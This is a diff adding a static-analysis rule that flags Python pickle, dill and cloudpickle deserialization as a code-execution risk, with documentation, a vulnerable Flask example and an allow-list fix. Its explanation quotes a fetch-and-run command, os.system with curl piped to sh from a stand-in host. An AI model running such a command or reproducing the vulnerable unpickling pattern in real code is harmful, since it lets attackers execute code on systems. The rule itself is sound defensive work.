@@ -1,0 +1,71 @@
+import { defineRule } from '../../engine/rule';
+import { FROM_NETWORK, loadsNetworkContent } from './untrusted-data';
+
+/** Modules whose `load` / `loads` / `Unpickler` unpickle: the standard ones and the pickle extensions. */
+const MODULES = ['pickle', 'cPickle', '_pickle', 'dill', 'cloudpickle'];
+
+const LOADS = new Set([
+  ...MODULES.flatMap((module) => [`${module}.load`, `${module}.loads`]),
+  // The pure-Python implementations behind the C accelerated functions.
+  'pickle._load',
+  'pickle._loads',
+  // dill's session helpers unpickle a whole module from a file.
+  'dill.load_session',
+  'dill.load_module',
+]);
+const UNPICKLERS = new Set([...MODULES.map((module) => `${module}.Unpickler`), 'pickle._Unpickler']);
+
+export default defineRule({
+  meta: {
+    id: 'PW101',
+    name: 'pickle-deserialization',
+    title: 'Deserialization with pickle',
+    category: 'deserialization',
+    // Bandit's defaults for B301 (medium, high). Pickle is also the legitimate way to persist
+    // Python objects a program wrote itself, so the default stays medium; a finding whose data
+    // is fetched over the network is raised to high.
+    severity: 'medium',
+    confidence: 'high',
+    cwe: 502,
+    bandit: 'B301',
+    ruff: 'S301',
+    fixable: false,
+    docs: {
+      what: 'Finds `pickle.load`, `pickle.loads` and `pickle.Unpickler` (also through `cPickle`, `_pickle`, `dill` and `cloudpickle`).',
+      why: 'A pickle is a small program for a stack machine, not a data format: through `__reduce__` it can make the loader import and call any function with any arguments, for example `os.system("curl evil.sh | sh")`. Whoever can write the bytes being unpickled (an upload, a cache file in a shared directory, a message queue, a downloaded model) runs code with the privileges of the process. There is no way to make unpickling untrusted data safe after the fact.',
+      example: 'import pickle\n\n@app.route("/restore", methods=["POST"])\ndef restore():\n    state = pickle.loads(request.data)\n    return jsonify(state)',
+      safe: 'import json\n\n@app.route("/restore", methods=["POST"])\ndef restore():\n    state = json.loads(request.data)\n    return jsonify(state)\n\n# If pickle cannot be avoided, restrict what it may build:\nclass AllowListUnpickler(pickle.Unpickler):\n    def find_class(self, module, name):\n        if (module, name) in {("collections", "OrderedDict")}:\n            return super().find_class(module, name)\n        raise pickle.UnpicklingError(f"{module}.{name} is not allowed")',
+      references: [
+        'https://cwe.mitre.org/data/definitions/502.html',
+        'https://docs.python.org/3/library/pickle.html',
+        'https://docs.python.org/3/library/pickle.html#restricting-globals',
+        'https://dill.readthedocs.io/en/latest/',
+        'https://github.com/cloudpipe/cloudpickle',
+      ],
+    },
+  },
+  calls: [...LOADS, ...UNPICKLERS],
+
+  checkCall(call, context) {
+    const callee = call.callee.text;
+    const unpickler = UNPICKLERS.has(call.qualifiedName!);
+    const parameter = call.qualifiedName!.endsWith('loads') ? 'data' : 'file';
+    if (loadsNetworkContent(call, 0, parameter, context.model)) {
+      context.report(call.node, {
+        message: `\`${callee}\` unpickles content downloaded from the network: ${FROM_NETWORK}. There is no safe drop-in rewrite; exchange data in a format that cannot carry code, such as JSON, and verify a signature (\`hmac\`) before trusting it.`,
+        severity: 'high',
+        confidence: 'high',
+      });
+      return;
+    }
+    if (unpickler) {
+      context.report(call.node, {
+        message: `\`${callee}\` with the default \`find_class\` imports whatever globals the data names, so a crafted pickle runs arbitrary code when loaded. There is no safe drop-in rewrite: subclass it and override \`find_class\` to allow only the classes you expect, or use a data-only format such as JSON.`,
+      });
+      return;
+    }
+    context.report(call.node, {
+      message: `\`${callee}\` can run arbitrary code: a pickle can make the loader call any function (through \`__reduce__\`), so unpickling data someone else can write or send is remote code execution. There is no safe drop-in rewrite; load only data this program wrote where others cannot modify it, or switch to a data-only format such as JSON.`,
+    });
+  },
+});
